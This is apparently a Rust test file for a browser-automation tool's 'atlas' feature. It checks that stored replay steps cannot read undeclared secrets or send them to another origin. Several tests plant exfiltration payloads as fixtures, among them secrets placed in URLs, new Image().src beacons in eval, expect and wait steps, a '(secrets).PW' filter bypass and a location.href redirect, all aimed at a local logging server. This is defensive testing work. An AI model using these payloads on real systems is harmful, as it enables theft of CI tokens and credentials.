//! What the atlas commands take from the project, and only from it: the steps an atlas holds
//! read only the secrets runner.toml's `[atlas] secrets` names and open only the atlas's
//! origin (and `[atlas] origins`), so an edited edge can neither send the CI's environment nor
//! read another origin's page; and the replays run in the browser runner.toml's `[browser]`
//! describes, as `runner run`'s flows do.

use std::io::BufRead;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use serde_json::json;

use crate::atlas::Server;
use crate::common::{output_within, runner, write};
use crate::untrusted_steps::{atlas, read_json, write_json};
use crate::untrusted_stores::{LIMIT, atlas_flow, record};

/// A server that answers every GET with a page that shows its time zone and language, and
/// logs each request (`<path> X-Flow=<header> AL=<Accept-Language>`) to `log`.
const LOGGING: &str = r#"import http.server, sys
log = sys.argv[1]
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(log, 'a') as f:
            f.write('%s X-Flow=%s AL=%s\n' % (self.path, self.headers.get('X-Flow'), self.headers.get('Accept-Language')))
        b = b'<!doctype html><title>seen</title><main><h1>Seen</h1><p id="o"></p><script>document.getElementById("o").textContent = "zone " + Intl.DateTimeFormat().resolvedOptions().timeZone + " lang " + navigator.language;</script></main>'
        self.send_response(200)
        self.send_header('Content-Type', 'text/html')
        self.send_header('Content-Length', str(len(b)))
        self.end_headers()
        self.wfile.write(b)
    def log_message(self, *a):
        pass
s = http.server.HTTPServer(('127.0.0.1', 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
"#;

/// The logging server, its port and its log; ended when dropped.
struct Logging {
    child: Child,
    port: String,
    log: PathBuf,
}

impl Logging {
    fn start(d: &Path) -> Logging {
        let script = write(d, "logging.py", LOGGING);
        let log = d.join("requests.log");
        let mut child = Command::new("python3")
            .arg(&script)
            .arg(&log)
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("python3 starts");
        let mut line = String::new();
        std::io::BufReader::new(child.stdout.as_mut().unwrap())
            .read_line(&mut line)
            .unwrap();
        Logging {
            child,
            port: line.trim().to_string(),
            log,
        }
    }

    fn requests(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }
}

impl Drop for Logging {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// An edited edge reads an environment variable no one declared and opens another origin
/// with it; another opens an internal page of another origin whose text `verify` would print.
/// Each is refused before anything is sent, naming the edge file, in `verify`, `replay` and
/// `export`, and the other origin receives nothing. (Before: `verify` sent the variable to the
/// other origin and passed.) runner.toml's `[atlas] secrets` and `origins` are what lets a
/// step read a secret or open another origin.
#[test]
fn an_edited_edge_reads_only_declared_secrets_and_opens_only_the_atlas_origin() {
    let d = tempfile::tempdir().unwrap();
    atlas_flow(d.path());
    let (home, b) = record(d.path());
    let server = Server::serve(&d.path().join("site"));
    let other = Logging::start(d.path());
    let base = ["--base-url", server.url.as_str()];
    let edge = d.path().join(format!("atl/edges/{home}/to b/flow.yaml"));
    let clean = read_json(&edge);
    // Back to the app, as recorded (a replay takes it to the base URL).
    let meta = read_json(&d.path().join(format!("atl/nodes/{home}/meta.json")));
    let recorded = meta["url"].as_str().unwrap().to_string();
    let planted = |first: serde_json::Value| {
        let mut flow = clean.clone();
        let steps = flow["steps"].as_array_mut().unwrap();
        steps.insert(0, json!({ "open": recorded }));
        steps.insert(0, first);
        write_json(&edge, &flow);
    };
    let said = format!("edges/{home}/to b/flow.yaml: step 1 (`open`): ");
    let verify = |env: Option<(&str, &str)>| {
        let mut c = runner(d.path());
        c.args(["atlas", "verify", "--atlas", "atl"]).args(base);
        if let Some((k, v)) = env {
            c.env(k, v);
        }
        output_within(c, LIMIT)
    };

    // A secret no one declared, sent to another origin.
    let leak = json!({"open": format!("http://localhost:{}/frame.html?leak={{{{ secrets.EXFIL_ME }}}}", other.port)});
    planted(leak.clone());
    // (A configuration error, exit 2, since review s23 F6: not a node that no longer arrives.)
    let (code, out, err) = verify(Some(("EXFIL_ME", "ci-deploy-token-77")));
    assert_eq!(code, 2, "{out}{err}");
    assert!(
        err.contains(&format!(
            "{said}it reads the secret `EXFIL_ME`, which runner.toml's `[atlas] secrets` does not name (it names none)"
        )),
        "{out}{err}"
    );
    let (code, out, err) = atlas(d.path(), &[&["replay", b.as_str()][..], &base].concat());
    assert_ne!(code, 0, "{out}{err}");
    assert!(format!("{out}{err}").contains(&said), "{out}{err}");
    let (code, out, err) = atlas(d.path(), &["export", b.as_str()]);
    assert_ne!(code, 0, "{out}{err}");
    assert!(format!("{out}{err}").contains("`EXFIL_ME`"), "{out}{err}");

    // Declared for the atlas, it is put into no URL (D2 of attack 27: the page's code reads
    // it there), of another origin or not (exit 2).
    write(
        d.path(),
        "runner.toml",
        "[atlas]\nsecrets = [\"EXFIL_ME\"]\n",
    );
    let (code, out, err) = verify(Some(("EXFIL_ME", "ci-deploy-token-77")));
    assert_eq!(code, 2, "{out}{err}");
    assert!(
        err.contains(&format!("{said}it puts the secret `EXFIL_ME` into a URL")),
        "{out}{err}"
    );

    // Another origin's internal page, whose text verify would report as drift.
    planted(json!({"open": format!("http://localhost:{}/internal.html", other.port)}));
    let (code, out, err) = verify(None);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains(&said), "{out}{err}");
    assert_eq!(other.requests(), "", "the other origin was sent a request");

    // runner.toml naming that origin lets it be opened (the project's own choice).
    write(
        d.path(),
        "runner.toml",
        &format!(
            "[atlas]\nsecrets = [\"EXFIL_ME\"]\norigins = [\"http://localhost:{}\"]\n",
            other.port
        ),
    );
    let (code, out, err) = verify(None);
    assert_eq!(code, 0, "{out}{err}");
    assert!(other.requests().contains("/internal.html"), "{out}{err}");

    // The clean atlas verifies with no runner.toml at all.
    std::fs::remove_file(d.path().join("runner.toml")).unwrap();
    write_json(&edge, &clean);
    let (code, out, err) = verify(None);
    assert_eq!(code, 0, "{out}{err}");
}

/// `explore` and `atlas verify` open the app with runner.toml's `[browser]` headers, locale
/// and time zone, as `runner run` does. (Before: a plain browser, UTC and en-US, no header.)
#[test]
fn explore_and_verify_take_the_projects_browser_settings() {
    let d = tempfile::tempdir().unwrap();
    let app = Logging::start(d.path());
    write(
        d.path(),
        "runner.toml",
        "[browser]\nlocale = \"de-DE\"\ntimezone = \"Asia/Tokyo\"\n[browser.headers]\nX-Flow = \"from-toml\"\n",
    );
    let url = format!("http://127.0.0.1:{}/index.html", app.port);
    let mut c = runner(d.path());
    c.args(["explore", &url, "--atlas", "atl", "--max-nodes", "2"]);
    let (code, out, err) = output_within(c, LIMIT);
    assert_eq!(code, 0, "{out}{err}");
    let explored = app.requests();
    assert!(
        explored.contains("/index.html X-Flow=from-toml AL=de-DE"),
        "{explored}"
    );
    let snapshots: String = walkdir::WalkDir::new(d.path().join("atl/nodes"))
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_name() == "snapshot.txt")
        .map(|e| std::fs::read_to_string(e.path()).unwrap())
        .collect();
    assert!(
        snapshots.contains("zone Asia/Tokyo lang de-DE"),
        "{snapshots}"
    );
    std::fs::write(&app.log, "").unwrap();
    let (code, out, err) = atlas(d.path(), &["verify"]);
    assert_eq!(code, 0, "{out}{err}");
    let verified = app.requests();
    assert!(
        verified.contains("/index.html X-Flow=from-toml AL=de-DE"),
        "{verified}"
    );
    assert!(!verified.contains("X-Flow=None"), "{verified}");
}

/// F6 (review of session 23): an atlas recorded by a flow that fills a secret, verified where
/// runner.toml's `[atlas] secrets` does not name it, was counted as a node that "no longer
/// arrives" (exit 1): an app regression, for the project's configuration. Now it is a
/// configuration error (exit 2), the node reported as errored, and the message shows the fix
/// literally; the recording run already warns, once, that its atlas will not verify without it.
#[test]
fn a_recorded_secret_the_project_does_not_name_is_a_configuration_error() {
    let d = tempfile::tempdir().unwrap();
    let p = d.path();
    std::fs::create_dir_all(p.join("site")).unwrap();
    write(
        &p.join("site"),
        "index.html",
        "<!doctype html><title>home</title><h1>Home</h1><input id=\"pw\" type=\"password\"><a href=\"b.html\">go b</a>\n",
    );
    write(
        &p.join("site"),
        "b.html",
        "<!doctype html><title>b</title><h1>Page B</h1><p>here</p>\n",
    );
    write(
        p,
        "a.yaml",
        "name: atl\nsecrets: [PASSWORD]\nweb_server: { static: ./site }\natlas: ./atl\nsteps:\n  - open: \"{{ web_server.url }}/index.html\"\n  - link_state: home\n  - fill: { target: \"#pw\", value: \"{{ secrets.PASSWORD }}\" }\n  - fill: { target: \"#pw\", value: \"{{ secrets.PASSWORD }}\" }\n  - click: { text: go b }\n  - link_state: to b\n",
    );
    let fix = "add PASSWORD to runner.toml: [atlas] secrets = [\"PASSWORD\"]";
    let mut c = runner(p);
    c.args(["run", "a.yaml"]).env("PASSWORD", "hunter22hunter");
    let (code, out, err) = output_within(c, LIMIT);
    assert_eq!(code, 0, "{out}{err}");
    let recorded = format!("{out}{err}");
    let server = Server::serve(&p.join("site"));
    let verify = || {
        let mut c = runner(p);
        c.args(["atlas", "verify", "--atlas", "atl", "--base-url"])
            .arg(&server.url)
            .args(["--report", "json=r.json"])
            .env("PASSWORD", "hunter22hunter");
        output_within(c, LIMIT)
    };
    let (code, out, err) = verify();
    assert_eq!(code, 2, "{out}{err}");
    assert!(err.contains(fix), "{out}{err}");
    assert!(!out.contains("no longer arrive"), "{out}{err}");
    let report = read_json(&p.join("r.json"));
    let statuses: Vec<&str> = report["flows"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["status"].as_str())
        .collect();
    assert!(statuses.contains(&"error"), "{report}");
    assert!(!statuses.contains(&"failed"), "{report}");
    assert_eq!(recorded.matches(fix).count(), 1, "warned once: {recorded}");
    // A fill inside a `group` is kept in the atlas one step at a time: warned about too.
    write(
        p,
        "g.yaml",
        "name: atlg\nsecrets: [PASSWORD]\nweb_server: { static: ./site }\natlas: ./atlg\nsteps:\n  - open: \"{{ web_server.url }}/index.html\"\n  - link_state: home\n  - group:\n      name: sign in\n      steps:\n        - fill: { target: \"#pw\", value: \"{{ secrets.PASSWORD }}\" }\n  - click: { text: go b }\n  - link_state: to b\n",
    );
    let mut c = runner(p);
    c.args(["run", "g.yaml"]).env("PASSWORD", "hunter22hunter");
    let (code, out, err) = output_within(c, LIMIT);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(format!("{out}{err}").matches(fix).count(), 1, "{out}{err}");
    // Named, it verifies, and a recording warns no more.
    write(p, "runner.toml", "[atlas]\nsecrets = [\"PASSWORD\"]\n");
    let (code, out, err) = verify();
    assert_eq!(code, 0, "{out}{err}");
    let mut c = runner(p);
    c.args(["run", "a.yaml"]).env("PASSWORD", "hunter22hunter");
    let (code, out, err) = output_within(c, LIMIT);
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        !format!("{out}{err}").contains("[atlas] secrets"),
        "{out}{err}"
    );
}

/// C4 at run time: a stored `eval` step takes the page to another origin (`location.href =
/// ...`), which no `open` shows; `verify` went on and printed that page's text. Now each
/// replayed step, and the state read on arrival, is checked to be on the atlas's origin (or
/// one `[atlas] origins` names): the node fails there, saying which origin the page went to,
/// and nothing of that page is shown. Named in `[atlas] origins`, it is the project's choice.
#[test]
fn a_stored_step_that_takes_the_page_to_another_origin_stops_the_replay() {
    let d = tempfile::tempdir().unwrap();
    atlas_flow(d.path());
    let (home, b) = record(d.path());
    let server = Server::serve(&d.path().join("site"));
    let other = Logging::start(d.path());
    let edge = d.path().join(format!("atl/edges/{home}/to b/flow.yaml"));
    let mut flow = read_json(&edge);
    let away = format!("http://localhost:{}/internal.html", other.port);
    let steps = flow["steps"].as_array_mut().unwrap();
    steps.push(json!({ "eval": format!("location.href = '{away}'") }));
    steps.push(json!({ "wait": "300ms" }));
    write_json(&edge, &flow);
    let verify = || {
        let mut c = runner(d.path());
        c.args(["atlas", "verify", "--atlas", "atl", "--base-url"])
            .arg(&server.url);
        output_within(c, LIMIT)
    };
    let (code, out, err) = verify();
    let said = format!("{out}{err}");
    assert_eq!(code, 1, "{said}");
    assert!(
        !said.contains("zone "),
        "the other origin's page was shown: {said}"
    );
    assert!(
        said.contains(&format!(
            "the page went to http://localhost:{}, which is not the atlas's origin",
            other.port
        )),
        "{said}"
    );
    assert!(said.contains(&b), "{said}");
    // The project's own choice: named, it is followed.
    write(
        d.path(),
        "runner.toml",
        &format!("[atlas]\norigins = [\"http://localhost:{}\"]\n", other.port),
    );
    let (_, out, err) = verify();
    let said = format!("{out}{err}");
    assert!(!said.contains("which is not the atlas's origin"), "{said}");
}

/// D2 (attack 27): a stored step gave a secret runner.toml's `[atlas] secrets` names to code
/// the page runs, which sent it to another origin while `verify` passed: (a) a `js` check or
/// wait (only `eval` and `route` were barred), (b) an `eval` spelling it `(secrets).PW`, past
/// the pattern that told what reads a secret, (c) an `eval` reading it back from the URL a
/// stored `open` put it in. Each is now refused before anything runs (exit 2, naming the
/// edge's file and step), and the other origin receives nothing.
#[test]
fn stored_steps_give_no_secret_to_code_the_page_runs() {
    let d = tempfile::tempdir().unwrap();
    atlas_flow(d.path());
    let (home, _b) = record(d.path());
    let server = Server::serve(&d.path().join("site"));
    let other = Logging::start(d.path());
    write(d.path(), "runner.toml", "[atlas]\nsecrets = [\"PW\"]\n");
    let edge = d.path().join(format!("atl/edges/{home}/to b/flow.yaml"));
    let clean = read_json(&edge);
    let meta = read_json(&d.path().join(format!("atl/nodes/{home}/meta.json")));
    let recorded = meta["url"].as_str().unwrap().to_string();
    let to = format!("http://localhost:{}", other.port);
    let cases = [
        (
            vec![
                json!({ "open": recorded }),
                json!({"expect": {"js": format!("(new Image().src = '{to}/ejs?' + encodeURIComponent('{{{{ secrets.PW }}}}'), true)")}}),
            ],
            "step 2 (`expect`) reads the secret `PW`",
        ),
        (
            vec![
                json!({ "open": recorded }),
                json!({"wait": {"js": {"expr": format!("v => (new Image().src = '{to}/wjs?' + v, true)"), "args": "{{ secrets.PW }}"}}}),
            ],
            "step 2 (`wait`) reads the secret `PW`",
        ),
        (
            vec![
                json!({ "open": recorded }),
                json!({"eval": format!("new Image().src = '{to}/b?' + '{{{{ (secrets).PW }}}}'; 1")}),
                json!({"fill": {"target": "#nope", "value": "{{ secrets.PW }}"}}),
            ],
            "step 2 (`eval`): it reads `secrets` otherwise than as `secrets.NAME`",
        ),
        (
            vec![
                json!({ "open": format!("{recorded}?u={{{{ secrets.PW }}}}") }),
                json!({"eval": format!("new Image().src = '{to}/c' + location.search; 1")}),
            ],
            "step 1 (`open`): it puts the secret `PW` into a URL",
        ),
    ];
    for (planted, said) in cases {
        let mut flow = clean.clone();
        let steps = flow["steps"].as_array_mut().unwrap();
        for (i, s) in planted.into_iter().enumerate() {
            steps.insert(i, s);
        }
        write_json(&edge, &flow);
        let mut c = runner(d.path());
        c.args(["atlas", "verify", "--atlas", "atl", "--base-url"])
            .arg(&server.url)
            .env("PW", "hunter2-secret-77");
        let (code, out, err) = output_within(c, LIMIT);
        assert_eq!(other.requests(), "", "{said}: the secret was sent");
        assert_eq!(code, 2, "{said}: {out}{err}");
        assert!(err.contains(said), "{out}{err}");
    }
}

/// D18 (attack 27): `explore` stopped at the first button that opens a `confirm` (exit 1,
/// "add a `dialog` step"), whatever runner.toml's `[browser] dialogs` said: the click passed,
/// and the read of the page after it met the dialog, which only a flow's next step answered.
/// A read of the page now answers it first as `dialogs` says, as a run's next step does.
#[test]
fn explore_answers_a_confirm_as_the_projects_browser_dialogs_says() {
    let d = tempfile::tempdir().unwrap();
    let p = d.path();
    std::fs::create_dir_all(p.join("site")).unwrap();
    write(
        &p.join("site"),
        "index.html",
        "<!doctype html><title>home</title><h1>Home</h1><button onclick=\"if (confirm('Go on?')) document.getElementById('s').textContent = 'went on'\">Continue</button><p id=\"s\">none</p>\n",
    );
    write(p, "runner.toml", "[browser]\ndialogs = \"dismiss\"\n");
    let server = Server::serve(&p.join("site"));
    let mut c = runner(p);
    c.args(["explore", &format!("{}/index.html", server.url)])
        .args(["--atlas", "ex", "--max-nodes", "5"]);
    let (code, out, err) = output_within(c, LIMIT);
    assert_eq!(code, 0, "{out}{err}");
    assert!(!err.contains("is blocking the page"), "{out}{err}");
    let status = read_json(&p.join("ex/status.json"));
    assert_eq!(status["state"], "done", "{status}");
}
